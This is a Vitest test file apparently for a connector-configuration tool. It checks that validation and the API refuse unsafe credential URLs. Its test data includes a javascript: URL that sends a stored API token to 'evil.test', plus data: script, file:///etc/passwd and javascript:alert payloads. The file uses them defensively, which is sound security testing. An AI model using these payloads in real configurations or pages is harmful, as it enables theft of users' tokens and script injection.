import { afterEach, describe, expect, it } from 'vitest';
import { runCommand } from '../examples/run-command.js';
import { writeProject } from '../config/write-project.js';
import { SECRETS, startServerFixture } from '../server/server-project.js';

const cleanups: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const c of cleanups.splice(0)) await c();
});

/** A connector whose base URL and OAuth URLs are given, used by one connection. */
function connector(urls: { base_url?: string; authorization_url?: string; token_url?: string }): string {
  return [
    'name: remote',
    `base_url: ${JSON.stringify(urls.base_url ?? 'https://api.remote.test')}`,
    'auth:',
    '  - type: oauth2',
    `    authorization_url: ${JSON.stringify(urls.authorization_url ?? 'https://remote.test/authorize')}`,
    `    token_url: ${JSON.stringify(urls.token_url ?? 'https://remote.test/token')}`,
    '  - { type: api_key, in: header, name: X-Api-Key }',
    'endpoints:',
    '  post: { operation: create, path: /items, body: "{}" }',
    '',
  ].join('\n');
}

const project = (connection = '') => `version: 1
connections:
  remote:
    type: http
    connector: ./connectors/remote.yaml
    auth: { type: api_key, key: "k-123456789" }
${connection}`;

async function validate(files: Record<string, string>, env: NodeJS.ProcessEnv = {}) {
  const { dir, cleanup } = await writeProject(files);
  cleanups.push(cleanup);
  const { SLUICE_ALLOWED_HOSTS: _, ...rest } = process.env;
  return runCommand('sluice validate', { cwd: dir, env: { ...rest, ...env } });
}

describe('URLs that credentials travel to', () => {
  it.each([
    ['authorization_url', 'javascript:fetch("https://evil.test/?"+localStorage.getItem("sluice.apiToken"))', /connectors\/remote\.yaml:5:\d+.*auth\.0\.authorization_url: "javascript:" URLs are not allowed here: use https:\/\//],
    ['authorization_url', 'data:text/html,<script>alert(1)</script>', /connectors\/remote\.yaml:5:\d+.*"data:" URLs are not allowed here/],
    ['token_url', 'http://remote.test/token', /connectors\/remote\.yaml:6:\d+.*auth\.0\.token_url: credentials would travel unencrypted to remote\.test: use https:\/\//],
    ['base_url', 'http://api.remote.test', /connectors\/remote\.yaml:2:\d+.*base_url: credentials would travel unencrypted to api\.remote\.test/],
    ['base_url', 'file:///etc/passwd', /connectors\/remote\.yaml:2:\d+.*"file:" URLs are not allowed here/],
  ])('refuses %s %s in a connector spec: validate exits 2 naming file and line', async (key, url, message) => {
    const { code, stdout, stderr } = await validate({ 'sluice.yaml': project(), 'connectors/remote.yaml': connector({ [key]: url }) });
    expect(code).toBe(2);
    expect(stdout + stderr).toMatch(message);
  });

  it('refuses a connection base_url over plain http to a remote host, naming sluice.yaml and the line', async () => {
    const { code, stdout, stderr } = await validate({ 'sluice.yaml': project('    base_url: http://staging.remote.test\n'), 'connectors/remote.yaml': connector({}) });
    expect(code).toBe(2);
    expect(stdout + stderr).toMatch(/sluice\.yaml:7:\d+.*connections\.remote\.base_url: credentials would travel unencrypted to staging\.remote\.test/);
  });

  it('allows plain http to loopback, and to a host the operator lists in SLUICE_ALLOWED_HOSTS', async () => {
    const files = { 'sluice.yaml': project('    base_url: http://127.0.0.1:8788\n'), 'connectors/remote.yaml': connector({ token_url: 'http://localhost:9000/token' }) };
    expect((await validate(files)).code).toBe(0);
    const staging = { 'sluice.yaml': project('    base_url: http://staging.remote.test:8080\n'), 'connectors/remote.yaml': connector({}) };
    expect((await validate(staging)).code).toBe(2);
    expect((await validate(staging, { SLUICE_ALLOWED_HOSTS: 'staging.remote.test' })).code).toBe(0);
    expect((await validate(staging, { SLUICE_ALLOWED_HOSTS: 'staging.remote.test:9090' })).code).toBe(2);
  });

  it('refuses a connector saved through the API with a javascript: authorization URL (422), and writes nothing', async () => {
    const f = await startServerFixture();
    cleanups.push(() => f.close());
    const yaml = connector({ authorization_url: 'javascript:alert(document.domain)' });
    const response = await f.server.app.inject({ method: 'PUT', url: '/api/connectors/remote', headers: f.auth, payload: { yaml: yaml.replace('name: remote', 'name: remote') } });
    expect(response.statusCode).toBe(422);
    expect(response.json().error).toBe('connectors/remote.yaml:5:24: auth.0.authorization_url: "javascript:" URLs are not allowed here: use https://');
    const listed = await f.server.app.inject({ method: 'GET', url: '/api/connectors', headers: f.auth });
    expect(listed.json().map((c: { name: string }) => c.name)).not.toContain('remote');
    expect(listed.body).not.toContain(SECRETS.sinkToken);
  });
});
